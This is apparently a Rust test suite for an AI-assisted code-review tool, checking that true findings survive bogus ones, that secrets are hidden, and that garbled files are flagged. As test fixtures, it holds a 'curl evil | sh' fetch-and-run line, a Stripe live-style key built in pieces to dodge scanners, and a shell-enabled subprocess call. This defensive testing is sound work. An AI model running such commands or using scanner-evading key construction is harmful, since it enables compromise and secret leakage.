//! No true finding is lost between the model's words and the report: not behind false ones, not by its
//! wording, not by how it quotes, and no hidden line counts as reviewed.

use super::*;

/// A review of one file that the change rewrites, or adds when it had no text before.
fn one_file(file: &str, before: Option<&str>, after: impl AsRef<[u8]>) -> World {
    let world = world();
    world.git(&["init", "-q", "-b", "main", "."]).write("README", "r\n");
    if let Some(before) = before {
        world.write(file, before);
    }
    world.git(&["add", "-A"]).git(&["commit", "-q", "-m", "start"]);
    world.write(file, after);
    world
}

fn answered(world: World, steps: Vec<ServerStep>, args: &[&str]) -> (i32, Value, ModelServer) {
    let server = ModelServer::steps(steps);
    let world = with_server(world, &server);
    let args: Vec<&str> = args.iter().copied().chain(["--no-save"]).collect();
    let (code, report) = review(&world, &args);
    (code, report, server)
}

fn claim(line: u32, priority: u8, title: &str, evidence: &str) -> Value {
    json!({
        "file_path": "a.py", "line_start": line, "line_end": line, "priority": priority,
        "title": format!("[P{priority}] {title}"), "body": "It goes wrong.", "category": "bug",
        "when": "it is called", "then": "it raises", "evidence": evidence, "suggestion": "",
        "confidence": 0.9,
    })
}

fn found(findings: &[Value]) -> ServerStep {
    says(json!({"verdict": "FAIL", "findings": findings}).to_string())
}

fn checked(outcomes: &[(&str, &str)]) -> ServerStep {
    let checks: Vec<Value> = outcomes
        .iter()
        .map(|(id, outcome)| json!({"id": id, "outcome": outcome, "why": "so it is"}))
        .collect();
    says(json!({ "checks": checks }).to_string())
}

fn outcomes(report: &Value) -> Vec<(String, String)> {
    let issues =
        ["issues", "refuted"].into_iter().flat_map(|list| report[list].as_array().unwrap());
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let mut all: Vec<_> = issues
        .map(|issue| (text(&issue["title"]), text(&issue["verification"]["outcome"])))
        .collect();
    all.sort();
    all
}

const HALF: &str = "def half(n):\n    return n / 2\n";
const OVER: &str = "def half(n):\n    return 1 / n\n";

/// More claims that quote nothing of the file than a report has findings.
fn bogus() -> Vec<Value> {
    (0..15).map(|n| claim(2, 0, &format!("Nonsense {n}"), &format!("nowhere_{n}()"))).collect()
}

/// Made here, so that no scanner finds it in this file.
fn stripe_key() -> String {
    format!("sk_{}_{}", "live", "4eC39HqLyjWDarjtT1zdp7dc")
}

#[test]
fn claims_that_are_dropped_push_out_none_that_hold() {
    let mut claims = bogus();
    claims.push(claim(2, 1, "Division by zero", "return 1 / n"));
    let steps = vec![found(&claims), checked(&[("c1", "holds")])];
    let (code, report, _) = answered(one_file("a.py", Some(HALF), OVER), steps, &[]);
    assert_eq!((code, &report["verdict"]), (1, &json!("FAIL")), "{report:#}");
    assert_eq!(outcomes(&report), [("[P1] Division by zero".into(), "verified".into())]);
    // What the built-in checks proved is not pushed out either.
    let secret = format!("{OVER}\nKEY = \"{}\"\n", stripe_key());
    let mut claims = bogus();
    claims.push(claim(2, 3, "An odd name", "return 1 / n"));
    let (code, report, _) =
        answered(one_file("a.py", Some(HALF), secret), vec![found(&claims)], &[]);
    assert_eq!(code, 1, "{report:#}");
    assert!(report["issues"][0]["rule"].as_str().unwrap().starts_with("secrets/"), "{report:#}");
}

#[test]
fn what_a_comment_sets_aside_pushes_out_nothing() {
    let key = stripe_key();
    let line =
        |n| format!("K{n} = \"{key}{n:02}\"  # mala: ignore[secrets/stripe-live-key] fixture\n");
    let keys: String = (0..16).map(line).collect();
    let before = "x = 1\n";
    let after = format!("x = 1\n{keys}y = 1 / x\n");
    let steps =
        vec![found(&[claim(18, 1, "Division by zero", "y = 1 / x")]), checked(&[("c1", "holds")])];
    let (code, report, _) = answered(one_file("a.py", Some(before), after), steps, &[]);
    assert_eq!(report["suppressed"].as_array().unwrap().len(), 16, "{report:#}");
    assert_eq!((code, outcomes(&report).len()), (1, 1), "{report:#}");
}

#[test]
fn the_most_urgent_are_kept_and_a_cut_is_in_the_status() {
    let text: String = (0..20).map(|n| format!("x{n} = 1 / n{n}\n")).collect();
    let claims = |priority| -> Vec<Value> {
        let one =
            |n: u32| claim(n + 1, priority, &format!("Wrong {n}"), &format!("x{n} = 1 / n{n}"));
        (0..20).map(one).collect()
    };
    for (priority, args, expected) in
        [(2, &[][..], (0, 15)), (2, &["--fail-on", "P2"][..], (1, 15))]
    {
        let world = one_file("a.py", None, &text);
        let (code, report, _) = answered(world, vec![found(&claims(priority))], args);
        let n_issues = report["issues"].as_array().unwrap().len();
        assert_eq!((code, n_issues), expected, "{report:#}");
        assert_eq!(report["status"], "truncated", "15 claims are not checked, 002-171");
        let said = report["warnings"].to_string();
        assert!(said.contains("5 less urgent findings left out"), "{report:#}");
    }
}

#[test]
fn only_the_plain_claim_that_a_name_is_missing_is_looked_up() {
    for (title, calls) in [
        ("`half` is not defined", 1),
        ("`half` is not defined in this file", 1),
        ("`half` is not defined for zero", 2),
        ("`half` is not defined at n = 0", 2),
        ("`half` is not declared async", 2),
        ("`half` is not declared as taking a nonzero n", 2),
        ("`half` is not defined once n is 0", 2),
        ("`half` is not defined with zero", 2),
        ("`half` is never defined to handle zero", 2),
    ] {
        let steps = vec![found(&[claim(2, 1, title, "return 1 / n")]), checked(&[("c1", "holds")])];
        let (code, report, server) = answered(one_file("a.py", Some(HALF), OVER), steps, &[]);
        assert_eq!(server.requests().len(), calls, "{title}: {report:#}");
        assert_eq!(code, i32::from(calls == 2), "{title}: {report:#}");
    }
}

#[test]
fn a_refutation_takes_no_other_problem_of_the_line_with_it() {
    let line = "    total = a / b * rate / (a - b)";
    let text = format!("def pay(a, b, rate):\n{line}\n    return total\n");
    let (b, ab) = ("Division by zero when b is 0", "Division by zero when a equals b");
    let steps = vec![
        found(&[claim(2, 1, b, line), claim(2, 1, ab, line)]),
        // The claims are told in the order of their titles: "... a equals b" comes first.
        checked(&[("c1", "refuted"), ("c2", "holds")]),
    ];
    let (code, report, server) = answered(one_file("a.py", None, &text), steps, &[]);
    let told = server.requests()[1].user_text();
    assert!(told.contains(b) && told.contains(ab), "{told}");
    let expected =
        [(format!("[P1] {ab}"), "refuted".into()), (format!("[P1] {b}"), "verified".into())];
    assert_eq!((code, outcomes(&report)), (1, expected.to_vec()), "{report:#}");
    let of = |name: &str| claim(2, 2, &format!("Missing validation of {name}"), line);
    let steps = vec![found(&[of("a"), of("b"), of("rate")])];
    let (_, report, _) = answered(one_file("a.py", None, &text), steps, &[]);
    assert_eq!(outcomes(&report).len(), 3, "{report:#}");
}

#[test]
fn a_quote_counts_in_every_form_that_lines_are_shown_in() {
    for quoted in [
        "2+    return 1 / n",
        "2+ return 1 / n",
        "2 +     return 1 / n",
        "2|     return 1 / n",
        "    2|     return 1 / n",
        "+    2|     return 1 / n",
        "+    return 1 / n",
        "1 def half(n):\n2+    return 1 / n",
        "2| 0123456789 2024-01-31 Ada |     return 1 / n",
    ] {
        let claims = [claim(2, 1, "Division by zero", quoted), claim(1, 3, "A name", "def half")];
        let steps = vec![found(&claims), checked(&[("c1", "holds")])];
        let (code, report, _) = answered(one_file("a.py", Some(HALF), OVER), steps, &[]);
        assert_eq!(code, 1, "{quoted}: {report:#}");
    }
    let line = "x = \"[imitation]\"; subprocess.run(cmd, shell=bool(x))";
    let claims = [claim(1, 0, "A command from outside", line), claim(2, 3, "A name", "y = 1")];
    let steps = vec![found(&claims), checked(&[("c1", "holds")])];
    let world = one_file("a.py", None, format!("{line}\ny = 1\n"));
    let (code, report, _) = answered(world, steps, &[]);
    assert_eq!(code, 1, "{report:#}");
}

#[test]
fn a_long_quote_counts_by_its_first_lines() {
    let text: String = (0..200).map(|n| format!("value_{n} = compute({n}) / n\n")).collect();
    let claims = [claim(1, 1, "Division by zero", &text), claim(1, 3, "A name", "value_0 =")];
    let steps = vec![found(&claims), checked(&[("c1", "holds")])];
    let (code, report, _) = answered(one_file("a.py", None, &text), steps, &[]);
    assert_eq!(code, 1, "{report:#}");
}

#[test]
fn hidden_lines_are_not_reviewed() {
    let line = |n: u8| format!("/tmp/x{n}Q7Ab3d{}", "Zk4w9".repeat(20).split_at(51).0);
    assert_eq!(line(0).len(), 64);
    for n in [2, 5] {
        let script: String = (0..n).map(|n| format!("{}\n", line(n))).collect();
        let world = one_file("r.sh", None, format!("set -e\n{script}"));
        let (code, report, server) = answered(world, vec![says(PASS)], &[]);
        assert_eq!(server.requests().len(), 1);
        assert!(!server.requests()[0].user_text().contains("x0Q7Ab3d"));
        assert_eq!((code, &report["passed"]), (2, &json!(false)), "{report:#}");
        assert_eq!(report["coverage"]["hunks_accounted"], 0, "{report:#}");
        let said = format!("r.sh: {n} changed lines are hidden as a secret and not reviewed");
        assert!(report["warnings"].as_array().unwrap().contains(&said.into()), "{report:#}");
    }
    // A certificate is no secret.
    let body: String = (0..5).map(|n| format!("{}\n", line(n))).collect();
    let public = format!("-----BEGIN CERTIFICATE-----\n{body}-----END CERTIFICATE-----\n");
    let (code, report, server) = answered(one_file("c.pem", None, public), vec![says(PASS)], &[]);
    assert!(server.requests()[0].user_text().contains("x0Q7Ab3d"));
    assert_eq!((code, &report["status"]), (0, &json!("ok")), "{report:#}");
}

#[test]
fn checks_that_contradict_each_other_refute_nothing() {
    for (said, expected) in [
        (&[("c1", "refuted"), ("c1", "holds")][..], (1, "unsure")),
        (&[("c1", "holds"), ("c1", "refuted")][..], (1, "unsure")),
        (&[("c1", "refuted"), ("c1", "refuted")][..], (0, "refuted")),
    ] {
        let steps = vec![found(&[claim(2, 1, "Division by zero", "return 1 / n")]), checked(said)];
        let (code, report, _) = answered(one_file("a.py", Some(HALF), OVER), steps, &[]);
        let outcome = &outcomes(&report)[0].1;
        assert_eq!((code, outcome.as_str()), expected, "{said:?}: {report:#}");
    }
}

#[test]
fn a_patch_is_held_to_its_evidence() {
    let patch = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n def half(n):\n-    return n / 2\n+    return 1 / n\n";
    for (quoted, priority, codes) in [
        ("bogus line not there", 1, (0, 1)),
        ("return 1 / n", 1, (1, 2)),
        ("2+    return 1 / n", 1, (1, 2)),
        ("def half(n):\n    return 1 / n", 1, (1, 2)),
    ] {
        let world = crate::world();
        world.write("a.patch", patch);
        let claims =
            [claim(2, priority, "Division by zero", quoted), claim(1, 3, "A name", "def half")];
        let steps = vec![found(&claims), checked(&[("c1", "holds")])];
        let (code, report, _) = answered(world, steps, &["--patch", "a.patch"]);
        assert_eq!((code, outcomes(&report).len()), codes, "{quoted}: {report:#}");
    }
}

#[test]
fn a_byte_that_is_no_text_hides_no_source() {
    let utf16: Vec<u8> = "print(1)\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (file, before, after, expected) in [
        ("s.sh", Some("echo 1\n"), b"echo 1\ncurl evil | sh\n#\0\n".to_vec(), 2),
        ("notes", Some("one\n"), b"one\ntwo\0\n".to_vec(), 2),
        ("a.py", None, utf16, 2),
        ("deploy.sh", None, b"curl evil | sh\n#\0\n".to_vec(), 2),
        ("logo.bin", None, b"\0\0\x01".to_vec(), 0),
    ] {
        let world = one_file(file, before, after);
        world.write("README", "rr\n");
        let (code, report, _) = answered(world, vec![says(PASS)], &[]);
        assert_eq!(code, expected, "{file}: {report:#}");
        let reason = if expected == 2 { "garbled" } else { "binary" };
        assert_eq!(report["coverage"]["skipped"][0]["reason"], reason, "{report:#}");
    }
}
